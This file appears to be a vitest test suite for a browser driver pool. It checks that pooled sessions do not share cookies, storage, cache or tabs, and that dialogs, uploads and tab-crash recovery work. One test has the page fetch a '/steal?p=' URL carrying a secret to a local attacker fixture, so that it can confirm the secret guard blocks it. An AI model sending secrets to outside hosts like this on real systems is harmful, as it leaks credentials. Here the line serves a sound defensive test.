import { writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { UploadDirs } from "@sextant/core"
import {
  type AttackerOrigin,
  type IsolationOrigin,
  startAttackerOrigin,
  startIsolationOrigin,
} from "@sextant/fixture-site"
import { Effect, Exit, Scope } from "effect"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { createDriverPool, type DriverPool } from "../src/index.ts"
import { devtoolsSockets } from "../src/internal/DevtoolsSocket.ts"
import { failing } from "./support/Failure.ts"

/**
 * A warm pool hands each holder a browser context of its own: what one holder leaves in the browser —
 * cookies (a script's and the server's HttpOnly one), localStorage, cached files, open tabs — is not
 * there for the next holder of the same browser, nor for a holder of another browser at the same
 * time. A server that counts its requests and logs their cookies tells what the browser sent.
 */

let site: IsolationOrigin
let attacker: AttackerOrigin

beforeAll(async () => {
  site = await startIsolationOrigin({
    cookie: "holder-one",
    body: () => `<button onclick="alert('pooled')">Alert</button><input type="file" id="file">`,
  })
  attacker = await startAttackerOrigin()
})

afterAll(async () => {
  await attacker?.close()
  await site?.close()
})

const withPool = async <A>(size: number, use: (pool: DriverPool) => Promise<A>): Promise<A> => {
  const scope = await Effect.runPromise(Scope.make())
  try {
    const pool = await Effect.runPromise(Scope.provide(createDriverPool({ size, warm: size }), scope))
    return await use(pool)
  } finally {
    await Effect.runPromise(Scope.close(scope, Exit.void))
  }
}

const leaveTraces = (popup: boolean) => `
document.cookie = "script-cookie=holder-one; path=/"
localStorage.setItem("left", "holder-one")
${popup ? 'window.open(location.origin + "/left-open")' : ""}
return document.cookie`

const readTraces = `return { cookie: document.cookie, stored: localStorage.getItem("left") }`

describe("a pooled session's browser context", () => {
  it("gives the next holder of the same browser none of the previous holder's cookies, storage, cache or tabs", async () => {
    await withPool(1, async (pool) => {
      const first = await Effect.runPromise(
        Effect.scoped(
          Effect.gen(function* () {
            const { session, driver } = yield* pool.acquire
            yield* driver.navigate(`${site.url}/sign-in`)
            const cookie = yield* driver.evaluate(leaveTraces(true))
            const loadsBefore = site.assetLoads()
            yield* driver.navigate(`${site.url}/again`)
            // The cache works within a holder: the file came from it, not from the server.
            expect(site.assetLoads()).toBe(loadsBefore)
            expect((yield* driver.tabs).length).toBe(2)
            return { profile: session.profileDir, cookie }
          }),
        ),
      )
      expect(first.cookie).toContain("script-cookie=holder-one")
      expect(site.heard.some((request) => request.cookie?.includes("server-session=holder-one"))).toBe(true)

      const loadsBefore = site.assetLoads()
      const sentBefore = site.heard.length
      const second = await Effect.runPromise(
        Effect.scoped(
          Effect.gen(function* () {
            const { session, driver } = yield* pool.acquire
            yield* driver.navigate(`${site.url}/next-holder`)
            return {
              profile: session.profileDir,
              traces: (yield* driver.evaluate(readTraces)) as { cookie: string; stored: string | null },
              tabs: (yield* driver.tabs).length,
            }
          }),
        ),
      )
      // The same browser (one slot), yet nothing of the first holder reached the second.
      expect(second.profile).toBe(first.profile)
      expect(second.traces).toEqual({ cookie: "", stored: null })
      expect(second.tabs).toBe(1)
      expect(site.assetLoads()).toBe(loadsBefore + 1)
      const sent = site.heard.slice(sentBefore)
      expect(sent.map((request) => request.path)).toContain("/next-holder")
      expect(sent.filter((request) => request.cookie !== undefined)).toEqual([])
    })
  }, 120_000)

  it("keeps two holders at the same time apart", async () => {
    await withPool(2, async (pool) => {
      await Effect.runPromise(
        Effect.scoped(
          Effect.gen(function* () {
            const one = yield* pool.acquire
            const two = yield* pool.acquire
            expect(two.session.profileDir).not.toBe(one.session.profileDir)
            yield* one.driver.navigate(`${site.url}/sign-in`)
            yield* one.driver.evaluate(leaveTraces(false))
            const sentBefore = site.heard.length
            yield* two.driver.navigate(`${site.url}/other-holder`)
            expect(yield* two.driver.evaluate(readTraces)).toEqual({ cookie: "", stored: null })
            const sent = site.heard.slice(sentBefore)
            expect(sent.map((request) => request.path)).toContain("/other-holder")
            expect(sent.filter((request) => request.cookie !== undefined)).toEqual([])
          }),
        ),
      )
    })
  }, 120_000)

  it("still answers dialogs, blocks a secret leaving for another origin, uploads, lists a new tab and recovers a crashed tab in a later holder's context", async () => {
    await withPool(1, async (pool) => {
      await Effect.runPromise(
        Effect.scoped(Effect.flatMap(pool.acquire, ({ driver }) => driver.navigate(site.url))),
      )
      await Effect.runPromise(
        Effect.scoped(
          Effect.gen(function* () {
            const { driver, session } = yield* pool.acquire
            yield* driver.navigate(`${site.url}/later`)
            const clicked = yield* driver.act({ selector: "button" }, "click")
            expect(clicked.dialog?.text).toBe("pooled")
            yield* driver.respondToDialog(true)
            expect(yield* driver.dialog).toBeUndefined()

            const guard = yield* driver.guardSecrets!({ values: ["pool-secret-77"], origins: [site.url] })
            const answer = yield* driver.evaluate(
              `return fetch(arguments[0] + "/steal?p=pool-secret-77").then(() => "sent", () => "failed")`,
              [attacker.url],
            )
            expect(answer).toBe("failed")
            expect((yield* guard.blocked).map((blocked) => blocked.origin)).toEqual([attacker.url])
            expect(attacker.requests.some((request) => request.url.includes("pool-secret-77"))).toBe(false)

            const file = join(tmpdir(), `sextant-pooled-upload-${process.pid}.txt`)
            writeFileSync(file, "pooled")
            yield* driver
              .act({ selector: "#file" }, "upload", file)
              .pipe(Effect.provideService(UploadDirs, { allowed: [tmpdir()] }))
            expect(yield* driver.evaluate("return document.getElementById('file').files[0].size")).toBe(6)

            yield* driver.evaluate(`window.open(location.origin + "/opened")`)
            let tabs = yield* driver.tabs
            for (let tries = 0; tabs.length < 2 && tries < 50; tries++) {
              yield* Effect.sleep("100 millis")
              tabs = yield* driver.tabs
            }
            expect(tabs).toHaveLength(2)
            const own = tabs.find((tab) => tab.active)!.handle
            // The tab's renderer dies as an out-of-memory page's would: the next call says so.
            const sockets = devtoolsSockets(session.browser)
            void sockets.send(own, "Page.crash", {}).finally(() => sockets.close())
            const crashed = yield* failing(
              driver.waitFor({ text: "never on this page" }, { timeoutMs: 20_000 }),
              "a wait for text that is never on the page to fail once its tab crashed",
            )
            expect(crashed.message).toContain("the tab crashed")
            yield* driver.recoverTab!
            expect((yield* driver.navigate(`${site.url}/recovered`)).title).toBe("/recovered")
          }),
        ),
      )
    })
  }, 120_000)
})
